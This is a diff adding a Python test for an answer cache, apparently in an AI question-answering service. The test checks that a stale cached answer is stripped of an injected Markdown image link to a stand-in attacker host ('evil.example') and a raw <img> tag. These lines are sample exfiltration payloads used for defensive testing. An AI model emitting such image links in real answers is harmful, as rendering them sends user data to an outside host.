@@ -95,3 +95,13 @@ def test_unanswered_and_hinted_answers_are_not_cached(world, corpus):
     ask_json(member, "What is the visitor parking policy?")
     ask_json(member, "How many people does the workforce plan cut from the robotics team?")
     assert not AnswerCache.objects.exists()
+
+
+def test_an_entry_cached_before_the_text_guard_is_guarded_when_served(world, corpus):
+    member = world.client(world.member)
+    first = ask_json(member, LAPTOP).json()
+    # An entry written before answers were guarded may hold a record's Markdown verbatim.
+    AnswerCache.objects.update(answer=first["answer"] + " ![s](https://evil.example/p?d=1) <img src=x>")
+    again = ask_json(member, LAPTOP).json()
+    assert again["cached"] is True
+    assert again["answer"] == first["answer"] + " ![s] "
